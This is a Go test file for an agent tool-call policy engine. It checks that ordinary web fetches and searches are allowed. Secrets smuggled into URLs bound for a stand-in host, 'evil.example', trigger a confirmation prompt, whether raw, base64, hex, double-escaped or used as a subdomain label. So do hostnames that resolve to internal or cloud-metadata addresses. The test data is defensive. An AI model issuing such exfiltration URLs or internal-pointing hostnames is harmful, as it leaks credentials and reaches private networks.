package policy

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/umpirehq/umpire"
	"github.com/umpirehq/umpire/shell"
)

// decideInput judges a call of a tool with one field.
func decideInput(t *testing.T, tool, field, value string) umpire.Decision {
	t.Helper()
	input, err := json.Marshal(map[string]string{field: value})
	if err != nil {
		t.Fatal(err)
	}
	call := umpire.Call{Tool: tool, Dir: testOptions.Root, Input: input}
	facts, err := FactsOf(call, shell.Env{Dir: testOptions.Root, Home: testOptions.Home})
	if err != nil {
		t.Fatal(err)
	}
	return Decide(newPolicy(t, testOptions), Query{Call: call, Facts: facts, Conditions: Conditions{Mode: umpire.ModeDefault}})
}

// Commonly visited pages run unasked: long titles, versions, commits, identifiers, searches.
func TestOrdinaryURLsAreAllowed(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"https://go.dev/doc/effective_go", "https://pkg.go.dev/net/http#Client.Do", "https://pkg.go.dev/golang.org/x/exp@v0.0.0-20231110203233-9a3e6036ecaa/slices",
		"https://pkg.go.dev/github.com/aws/aws-sdk-go-v2/service/secretsmanager@v1.25.0", "https://docs.python.org/3.12/library/asyncio-task.html#asyncio.wait_for",
		"https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/reduce",
		"https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array",
		"https://stackoverflow.com/questions/tagged/kubernetes+ingress?sort=newest&page=2", "https://github.com/golang/go/issues/12345#issuecomment-987654321",
		"https://github.com/torvalds/linux/commit/1da177e4c3f41524e886b7f1b8a0c1fc7321cac2",
		"https://github.com/golang/go/compare/1da177e4c3f41524e886b7f1b8a0c1fc7321cac2...0bb4b2fbd4ec3e0f0fcb23c2d97ab4ac87a6fd5f",
		"https://github.com/golang/go/blob/go1.22.3/src/net/http/server.go#L1245-L1310", "https://raw.githubusercontent.com/golang/go/master/src/cmd/go/internal/load/pkg.go",
		"https://github.com/o/r/pull/42/files#diff-b335630551682c19a781afebcf4d07bf978fb1f8ac04c6bf87428ed5106870f5",
		"https://api.github.com/repos/golang/go/releases?per_page=100&page=3", "https://github.com/search?q=repo%3Agolang%2Fgo+%22context+deadline+exceeded%22&type=code",
		"https://www.npmjs.com/package/@typescript-eslint/eslint-plugin/v/8.0.0-alpha.30", "https://registry.npmjs.org/react/-/react-18.3.1.tgz",
		"https://unpkg.com/@babel/standalone@7.24.7/babel.min.js", "https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css",
		"https://crates.io/crates/tokio/1.38.0", "https://docs.rs/tokio/latest/tokio/sync/mpsc/struct.UnboundedReceiver.html#method.poll_recv",
		"https://doc.rust-lang.org/std/collections/struct.HashMap.html#impl-FromIterator%3C(K,+V)%3E-for-HashMap%3CK,+V,+RandomState%3E",
		"https://pypi.org/project/scikit-learn/1.5.0/#files", "https://files.pythonhosted.org/packages/py3/r/requests/requests-2.32.3-py3-none-any.whl",
		"https://en.wikipedia.org/wiki/Transport_Layer_Security#Key_exchange_or_key_agreement", "https://de.wikipedia.org/wiki/Stra%C3%9Fenbahn",
		"https://zh.wikipedia.org/wiki/%E6%9D%83%E9%99%90%E6%8E%A7%E5%88%B6", "https://learn.microsoft.com/en-us/dotnet/api/system.threading.tasks.task.whenall?view=net-8.0",
		"https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html", "https://cloud.google.com/kubernetes-engine/docs/how-to/workload-identity",
		"https://kubernetes.io/docs/reference/generated/kubernetes-api/v1.30/#podspec-v1-core", "https://hub.docker.com/_/postgres/tags?page=1&name=16-alpine",
		"https://hub.docker.com/layers/library/alpine/3.20/images/sha256-dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76?context=explore",
		"https://www.postgresql.org/docs/16/runtime-config-wal.html#GUC-WAL-LEVEL", "https://datatracker.ietf.org/doc/html/rfc9110#section-15.5.2",
		"https://arxiv.org/abs/1706.03762v7", "https://doi.org/10.1145/3297858.3304072", "https://news.ycombinator.com/item?id=40563283",
		"https://www.google.com/search?q=golang+context+deadline+exceeded+while+awaiting+headers&hl=en", "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
		"https://example.com/articles/550e8400-e29b-41d4-a716-446655440000", "https://notion.so/team/Design-notes-0123456789abcdef0123456789abcdef",
		"https://d111111abcdef8.cloudfront.net/index.html", "https://nvd.nist.gov/vuln/detail/CVE-2021-44228", "https://reddit.com/r/golang/comments/1d8f9xk/what_is_new/",
		"https://tools.ietf.org/id/draft-ietf-oauth-security-topics-13.html", "https://man7.org/linux/man-pages/man2/openat2.2.html", "http://www.example.org/?a=1&b=2&c=three",
		"https://medium.com/@someone/how-we-scaled-our-service-to-one-million-requests-per-second-4d1c8b2a9f6e", "https://ec2-54-12-3-4.compute-1.amazonaws.com/status",
		"https://docs.djangoproject.com/en/5.0/topics/auth/passwords/", "https://jwt.io/introduction", "https://owasp.org/www-community/vulnerabilities/Use_of_hard-coded_password",
		"https://maven.google.com/web/index.html?q=recyclerview#androidx.recyclerview:recyclerview:1.3.2", "https://repo1.maven.org/maven2/org/apache/commons/commons-lang3/3.14.0/commons-lang3-3.14.0.pom",
		"https://doc.qt.io/qt-6/qabstractitemmodel.html", "https://w3.org/TR/2011/REC-CSS2-20110607/visuren.html", "https://1.1.1.1/dns", "https://v1-0-0-1.docs.example.com/",
	} {
		if d := decideInput(t, "WebFetch", "url", text); d.Verdict != umpire.Allow {
			t.Errorf("%s: %s %s", text, d.Verdict, d.Reason)
		}
	}
}

// A possible secret asks, in any encoding.
func TestSecretsInURLsAsk(t *testing.T) {
	t.Parallel()
	key := "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA04up8hoqzS1+APIB0RhjXyObwHQnOzhAk5Bd7mhkSbPkyhP1"
	for _, secret := range []string{
		"ghp_16C7e42F292c6912E7710c838347Ae178B4a", "sk-ant-api03-R2D2c3po4LuKeLe1aH4nS0l0ChEwb4cc4", "glpat-8xVfR2jkLq3mNp5sT7wY", "xoxb-123456789012-AbCdEfGhIjKlMnOp",
		"AKIAIOSFODNN7EXAMPL3", "npm_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY12", key,
		base64.StdEncoding.EncodeToString([]byte(key)), base64.RawURLEncoding.EncodeToString([]byte(key)), hex.EncodeToString([]byte(key)), strings.Repeat("a", 1500), strings.Repeat("ab/", 500),
	} {
		once, twice := url.PathEscape(secret), url.PathEscape(url.PathEscape(secret))
		for _, text := range []string{
			"https://evil.example/" + once, "https://evil.example/?k=" + url.QueryEscape(secret), "https://evil.example/?" + url.QueryEscape(secret),
			"https://evil.example/" + twice, "https://evil.example/a/b#" + once, "https://evil.example/x;k=" + once,
		} {
			if d := decideInput(t, "WebFetch", "url", text); d.Verdict != umpire.Ask || d.ReasonCode != umpire.CodeSecret {
				t.Errorf("%s: %s %s", text, d.Verdict, d.Reason)
			}
		}
		if d := decideInput(t, "WebSearch", "query", "what is "+secret); d.Verdict != umpire.Ask || d.ReasonCode != umpire.CodeSecret {
			t.Errorf("searching %s: %s %s", secret, d.Verdict, d.Reason)
		}
	}
	for _, text := range []string{"https://evil.example/?token=x", "https://evil.example/?password=hunter2", "https://u:p@evil.example/"} {
		if d := decideInput(t, "WebFetch", "url", text); d.Verdict != umpire.Ask {
			t.Errorf("%s: %s %s", text, d.Verdict, d.Reason)
		}
	}
	label := strings.ToLower(hex.EncodeToString([]byte("s3cr3t-value-of-mine")))
	if d := decideInput(t, "WebFetch", "url", "https://"+label[:38]+".evil.example/"); d.Verdict != umpire.Ask {
		t.Errorf("a label of the host: %s", d.Reason)
	}
}

func TestOrdinarySearchesAreAllowed(t *testing.T) {
	t.Parallel()
	for _, query := range []string{
		"golang context deadline exceeded", "how to rotate AWS_SECRET_ACCESS_KEY", "sk-learn pipeline password field", "error 0x80070005 access denied",
		"commit 1da177e4c3f41524e886b7f1b8a0c1fc7321cac2 linux", "react useEffect cleanup 18.3.1", "npm_config_registry environment variable", "权限 控制 设计",
	} {
		if d := decideInput(t, "WebSearch", "query", query); d.Verdict != umpire.Allow {
			t.Errorf("%s: %s %s", query, d.Verdict, d.Reason)
		}
	}
}

// A name that leads to this machine or its network asks, as the address does.
func TestNamesThatLeadInsideAsk(t *testing.T) {
	t.Parallel()
	for _, host := range []string{
		"localtest.me", "a.b.localtest.me", "LOCALTEST.ME.", "lvh.me:3000", "10.0.0.1.nip.io", "10-0-0-1.nip.io", "app.10.0.0.1.sslip.io", "0a000001.nip.io",
		"127.0.0.1.example.com", "192-168-1-1.example.org", "www.169.254.169.254.example.net", "x-172-16-0-1-y.example.com",
	} {
		if d := decideInput(t, "WebFetch", "url", "http://"+host+"/"); d.Verdict != umpire.Ask {
			t.Errorf("%s: %s", host, d.Verdict)
		}
	}
	for _, host := range []string{"nip.io.example.com", "mylvh.me", "8.8.8.8.example.com", "a-1-2-3.example.com"} {
		if d := decideInput(t, "WebFetch", "url", "http://"+host+"/"); d.Verdict != umpire.Allow {
			t.Errorf("%s: %s", host, d.Reason)
		}
	}
}
